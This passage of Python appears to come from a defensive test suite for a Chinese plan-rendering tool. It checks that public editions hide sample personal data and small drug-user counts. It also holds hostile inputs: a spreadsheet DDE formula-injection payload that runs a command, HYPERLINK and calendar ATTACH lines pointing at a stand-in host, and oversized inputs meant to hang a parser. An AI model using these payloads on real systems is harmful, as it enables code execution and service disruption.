    Attack(
        "public: other ways to reach a person",
        "publish landlines of persons, mail, accounts, addresses, cards",
        *each_published(
            "联系人王芳，电话0731-82345678",
            "王芳（0731）82345679",
            "社工王芳，办公电话82345670转803",
            "邮箱wang.fang@example.com",
            "邮箱wang_fang（at）example点com",
            "QQ：123456789",
            "微信号wangfang_1990",
            "住柳林路12号3栋2单元401室",
            "卡号6222021234567890123",
        ),
        [
            hides(
                "82345678",
                "82345679",
                "82345670",
                "wang.fang@example",
                "wang_fang（at）",
                "123456789",
                "wangfang_1990",
                "12号3栋2单元401",
                "6222021234567890123",
            )
        ],
    ),
    Attack(
        "public: identity numbers",
        "publish a number of a citizen with a slip in it, or cut in pieces",
        *each_published(
            f"身份证号{IDENTITY}",
            "身份证号110101199003077572",
            "身份证号110101-19900307-7573",
            "身份证号110101 1990 0307 7574",
            "身份证号11010119900\u00ad3077575",
            "身份证号１１０１０１１９９００３０７７５７６",
            "身份证号110101900307757",
            "身份证号11010119900307757Ｘ",
            "身份证号1101011990030\u206677577",
        ),
        [
            hides(
                IDENTITY,
                *(f"11010119900307757{n}" for n in range(2, 8)),
                "110101900307757",
                "11010119900307757X",
            )
        ],
    ),
    Attack(
        "public: names of persons, allowed by whoever sent them",
        "publish what the sender's settings, remarks or options let pass",
        {
            PLAN: plan(
                (
                    BACKGROUND,
                    f"帮助戒毒人员张建国就业，电话{PHONE}，身份证{IDENTITY}。{BACKGROUND}",
                ),
                ("  工作基础:", "  # jindu: ignore[CMP001] 同意\n  工作基础:"),
            ),
            "jindu.toml": b'[check]\nselect = ["BUD"]\nignore = ["CMP"]\n[check.severity]\n'
            + "\n".join(f'CMP00{n} = "提示"' for n in range(1, 7)).encode()
            + '\n[norms]\n"公开版最小计数" = 0\n'.encode(),
        },
        [
            *public(),
            *(tuple(w for w in c if w != "--allow-errors") for c in public(forms=("docx",))),
        ],
        [hides("张建国", PHONE, IDENTITY)],
    ),
    Attack(
        "public: what --set brings",
        "publish a person through what is given on the command line",
        {PLAN: SOUND.encode()},
        [
            command
            for what in ("会议地点", "会议时间", "发文字号")
            for command in public(
                "--set",
                f"{what}=戒毒人员张建国家，电话{PHONE}，现有两名吸毒人员",
                kind="联席会议通知",
                forms=("docx", "html"),
                to=what,
            )
        ],
        [hides(PHONE, "张建国", "两名吸毒人员")],
    ),
    Attack(
        "public: what a template brings",
        "publish through a template what is no part of the public plan",
        {
            PLAN: plan(
                (
                    "  编号: 柳林街道梧桐社区禁毒支部方案",
                    "  备注: 绝密备注甲\n  编号: 柳林街道梧桐社区禁毒支部方案",
                ),
                (
                    "联系: {单位: 柳林街道平安法治办公室}",
                    f"联系: {{单位: 绝密中心, 联系人: 王芳, 电话: {PHONE}}}",
                ),
                ("服务对象数: 36", "服务对象数: 3"),
                _INTERNAL["milestone"],
            ),
            TEMPLATE: b"# {{ title }}\n\n{{ plan.overview.remark }}{{ remark }}"
            b"{{ plan.teams[1].clients }}"
            b"{% if plan.document.contact %}{{ plan.document.contact.phone }}{% endif %}\n\n"
            b"{% for m in plan.tasks %}{{ m.name }}{{ m.remark }}{% endfor %}\n",
            LETTERHEAD: word(
                "{{ plan.overview.remark }}{{ remark }}",
                "{%p for m in plan.tasks %}",
                "{{ m.name }}",
                "{%p endfor %}",
            ),
        },
        [
            *public(forms=("docx", "html", "md")),
            *public("--template", LETTERHEAD, forms=("docx",), to="红头"),
        ],
        [hides("绝密", PHONE, "王芳")],
    ),
    Attack(
        "public: what a template says itself",
        "publish a person or a small count that stands in the template, not in the plan",
        {
            PLAN: SOUND.encode(),
            TEMPLATE: f"# 甲\n\n联系人王芳，电话{PHONE}，现有两名吸毒人员。\n".encode(),
            LETTERHEAD: word("{{p 正文 }}", f"联系人王芳，电话{PHONE}，现有两名吸毒人员。"),
        },
        [
            *public(forms=("docx", "html", "md")),
            *public("--template", LETTERHEAD, forms=("docx",), to="红头"),
        ],
        [hides(PHONE, "两名吸毒人员")],
    ),
    Attack(
        "public: every thing that is marked",
        "publish what is marked 公开: 否 through references, lists, alt text, titles, sums",
        {PLAN: plan(*_INTERNAL.values())},
        [
            command
            for kind in (
                "实施方案",
                "申报方案",
                "任务清单",
                "责任清单",
                "时限清单",
                "绩效目标申报表",
                "联席会议通知",
            )
            for command in public(kind=kind, forms=("docx", "html", "md"))
        ]
        + public(forms=("xlsx", "ics")),
        [hides("绝密"), succeeds],
    ),
    Attack(
        "public: whole sections that are marked",
        "break the document, or publish it, where a section is marked",
        {
            f"{number}/{PLAN}": plan((head, f"{head}\n  公开: 否"))
            for number, head in enumerate(
                (
                    "\n方案:",
                    "\n公文:",
                    "\n领导小组:",
                    "\n平台:",
                    "\n经费:",
                    "\n考核评价:",
                    "\n申报:",
                )
            )
        },
        [
            (
                "render",
                f"{n}/{PLAN}",
                "--edition",
                "public",
                "--to",
                form,
                "-o",
                f"{n}.{form}",
                "--allow-errors",
            )
            for n in range(7)
            for form in FORMS
        ],
        [],
    ),
    Attack(
        "public: remarks and comments",
        "find the writer's own remarks in any edition and format",
        {
            PLAN: plan(
                *(
                    (place, f"{place}\n  备注: 绝密备注甲")
                    for place in (
                        "\n方案:",
                        "\n公文:",
                        "\n领导小组:",
                        "\n平台:",
                        "\n经费:",
                        "\n考核评价:",
                        "\n申报:",
                    )
                ),
                ("格式: 1", "格式: 1\n备注: 绝密备注乙  # 绝密注释丙"),
                (
                    "    名称: 建强支部组织，落实工作制度",
                    "    备注: 绝密备注丁\n    名称: 建强支部组织，落实工作制度",
                ),
            )
        },
        [
            *public(),
            *public(kind="申报方案", forms=("docx", "html")),
            *(("render", PLAN, "--to", form, "-o", f"内部.{form}") for form in FORMS),
        ],
        [hides("绝密"), succeeds],
    ),
    Attack(
        "public: small counts, disguised",
        "publish a count of one to four drug users in other words",
        *each_published(*_COUNTS),
        [hides(*_COUNTS)],
    ),
    Attack(
        "public: small counts, further words",
        "publish a count of one to four in words nobody listed",
        *each_published(*_MORE_COUNTS),
        [hides(*_MORE_COUNTS)],
    ),
    Attack(
        "public: small counts across places",
        "publish a count as figures: clients, targets, tables, warnings, quantities",
        {
            PLAN: plan(
                _team("3"),
                (
                    "        名称: 禁毒宣传活动场次\n        计量单位: 场",
                    "        名称: 复吸人员数\n        计量单位: 人",
                ),
                ("值: 8场,", "值: 4人,"),
                ("目标值: 20场", "目标值: 3人"),
                ("{2026: 14场, 2027: 18场, 2028: 20场}", "{2026: 3人, 2027: 2人, 2028: 3人}"),
                (
                    "计算方法: 当年开展的集中宣传",
                    "计算方法: 吸毒人员3人、复吸2人之比，当年开展的集中宣传",
                ),
            )
        },
        public(),
        [
            hides(
                "复吸人员数3人",
                "复吸人员数达到3",
                "吸毒人员3人",
                "复吸2人",
                "服务对象3",
                "3名服务对象",
            )
        ],
    ),
    Attack(
        "public: what is left of a sum",
        "learn a small count from the others and their sum",
        *each_published(
            "现有吸毒人员36名，其中男性33名、女性3名",
            "36名戒毒人员中，已就业33名，未就业3名",
            "吸毒人员36名：男33名，女3名",
        ),
        [_not_all_of("36名", "33名")],
    ),
    Attack(
        "public: counts that tell on nobody",
        "have rules, posts and large numbers made nonsense",
        {PLAN: plan(background(*_INNOCENT))},
        public(forms=("md", "docx")),
        [shows(*_INNOCENT), succeeds],
    ),
    Attack(
        "public: titles and properties",
        "publish through what a file says of itself",
        {
            PLAN: plan(("标题: 清源县", f"标题: 王芳{PHONE}清源县")),
            "机密项目王芳.yaml": SOUND.encode(),
        },
        [
            *public(),
            *(
                (
                    "render",
                    "机密项目王芳.yaml",
                    "--edition",
                    "public",
                    "--to",
                    form,
                    "-o",
                    f"乙.{form}",
                )
                for form in FORMS
            ),
        ],
        [hides(PHONE, "机密项目"), _without_metadata],
    ),
    Attack(
        "public: what is read is what is written",
        "turn words round, or hide some, by characters that are not seen",
        {
            f"{number}/{PLAN}": plan(background(text))
            for number, text in enumerate(
                (
                    "由\u2067甲局\u2069付给\u2067乙局\u2069",
                    "由\u202e甲局付给乙局\u202c",
                    "由甲\u00ad局付给",
                    "由甲\u034f局付给",
                    "由甲\u115f局付给",
                    "由甲\u3164局付给",
                    "由甲\U000e0041局付给",
                    "由甲\ufdd0局付给",
                    "由甲\u180e局付给",
                    "由甲\u2061局付给",
                    "由甲\ufffc局付给",
                    "由甲\U0001d173局付给",
                )
            )
        },
        [
            ("check", f"{number}/{PLAN}", "--level", "submit", "--today", "2025-12-20")
            for number in range(12)
        ],
        [finds],
    ),
    Attack(
        "public: cells and dates that are formulas",
        "have a workbook or calendar run or fetch something",
        {
            PLAN: plan(
                ("名称: 建强支部组织，落实工作制度", "名称: \"=cmd|' /C calc'!A0\""),
                ("名称: 审议并印发创建实施方案", '名称: "=HYPERLINK(\\"http://x.example\\")"'),
                ("名称: 召开创建工作动员会", '名称: "+cmd|x!A1"'),
                ("名称: 招募党员志愿者并组织岗前学习", '名称: "@SUM(1)"'),
                (
                    "成果形式: 会议纪要和印发的方案",
                    '成果形式: "甲\\nATTENDEE:mailto:x@x.example\\nATTACH:http://x.example/a"',
                ),
            )
        },
        [("render", PLAN, "--to", form, "-o", f"成文.{form}", "--allow-errors") for form in FORMS],
        [hides("<f>cmd", "<f>HYPERLINK(", "<f>SUM(1)", loosely=False), _no_property_of_its_own],
    ),
    Attack(
        "public: findings and differences",
        "read what is hidden in what is shown of it: reports, differences, baselines",
        {
            PLAN: plan(
                background(f"帮助戒毒人员{OTHER_NAME}就业,身份证{OTHER_IDENTITY},电话{OTHER_PHONE}")
            ),
            "坏.yaml": f"方案:\n  背景: [身份证{OTHER_IDENTITY}, 电话{OTHER_PHONE}\n"
            " 工作基础: }\n".encode(),
        },
        [
            *(
                ("check", name, "--level", "submit", *how)
                for name in (PLAN, "坏.yaml")
                for how in (
                    (),
                    ("--format", "json"),
                    ("--format", "sarif"),
                    ("--format", "github"),
                    ("--diff", "--unsafe"),
                    ("--quiet",),
                    ("--baseline", "基线.json", "--write-baseline"),
                )
            ),
            (
                "render",
                PLAN,
                "--allow-errors",
                "--to",
                "md",
                "-o",
                "成文.md",
                "--edition",
                "public",
            ),
        ],
        [
            says_not(OTHER_IDENTITY, OTHER_PHONE, OTHER_NAME),
            hides(OTHER_IDENTITY, OTHER_PHONE, OTHER_NAME),
        ],
    ),
]

# What is read besides -----------------------------------------------------------------------


def _flow(findings: int) -> bytes:
    entries = [
        {"编号": f"甲{n}", "名称": "开展走访", "牵头单位": f"乙{n}"} for n in range(findings)
    ]
    return json.dumps({"方案": {"标题": "甲"}, "工作任务": entries}, ensure_ascii=False).encode()


_BAD_SETTINGS: Sequence[bytes] = (
    '[norms]\n"满意度下限" = 1e999999999\n'.encode(),
    '[norms]\n"满意度下限" = -1e-999999999\n'.encode(),
    '[norms]\n"满意度下限" = nan\n'.encode(),
    '[norms]\n"满意度下限" = 0x'.encode() + b"f" * 10_000 + b"\n",
    '[norms]\n"满意度下限" = '.encode() + b"9" * 10_000 + b"\n",
    '[norms]\n"公开版最小计数" = 1979-05-27\n'.encode(),
    b"[check]\nignore = " + b"[" * 20_000 + b"]" * 20_000 + b"\n",
    b"a." * 20_000 + b"a = 1\n",
    b"[check]\nignore = [" + b'"SCH017",' * 1_000_000 + b"]\n",
    b"x = {" + b"a={" * 5000 + b"}" * 5000 + b"}\n",
)
_BAD_BASELINES: Sequence[bytes] = (
    b'{"findings": "abc"}',
    b'{"findings": [{"file": "a", "code": "b", "message": "c", "line": "d", "count": 1000000000}]}',
    b'{"findings": [{"file": "a", "code": "b", "message": "c", "line": "d", "count": -1}]}',
    b'{"findings": [{"file": [], "code": {}, "message": 1, "line": null, "count": NaN}]}',
    b'{"findings": [{"file": "a", "code": "b", "message": "c", "line": "d", "count": 1e400}]}',
    b"[" * 100_000 + b"]" * 100_000,
    b'{"findings": ' + b"9" * 10_000 + b"}",
    b"\xff\xfe",
    b'{"findings": [["a", "b"]]}',
    b'{"version": 99, "findings": []}',
)

READING = [
    Attack(
        "read: settings without end",
        "hang or break the program by its settings",
        {
            f"{number}/{name}": content
            for number, settings in enumerate(_BAD_SETTINGS)
            for name, content in ((PLAN, SOUND.encode()), ("jindu.toml", settings))
        },
        [("check", f"{number}/{PLAN}") for number in range(len(_BAD_SETTINGS))],
        [],
    ),
    Attack(
        "read: baselines without end",
        "hang or break the program by a baseline",
        {PLAN: SOUND.encode()} | {f"{n}.json": content for n, content in enumerate(_BAD_BASELINES)},
        [("check", PLAN, "--baseline", f"{n}.json") for n in range(len(_BAD_BASELINES))],
        [],
    ),
    Attack(
        "read: texts that cost more than they weigh",
        "keep the processor busy by a small plan",
        {
            "1/方案.yaml": _flow(2000),
            "2/方案.yaml": plan(background("甲," * 20_000)),
            "3/方案.yaml": plan(background("a" * 70_000, "a." * 30_000 + "@")),
            "4/方案.yaml": plan(background("1 " * 50_000, "138-" * 30_000)),
            "5/方案.yaml": plan(background("吸毒人员" * 10_000, "2名" * 20_000)),
            "6/方案.yaml": plan(background("(" * 50_000, "“" * 50_000)),
        },
        [
            command
            for n in range(1, 7)
            for command in (
                ("check", f"{n}/{PLAN}"),
                ("render", f"{n}/{PLAN}", "--to", "md", "--edition", "public", "--allow-errors"),
            )
        ],
        [],
    ),
]

ATTACKS: Mapping[str, Attack] = {
    attack.name: attack
    for attack in (*TEXT_TEMPLATES, *WORD_TEMPLATES, *WRITERS, *PUBLIC, *READING)
}
NEEDS_POSIX = frozenset(
    name
    for name, attack in ATTACKS.items()
    if any(
        callable(content) and "word" not in content.__qualname__
        for content in attack.files.values()
    )
    or any(sign in file for file in attack.files for sign in "\x1b\n:")
)
"""Attacks that take links, pipes or names which Windows does not have."""
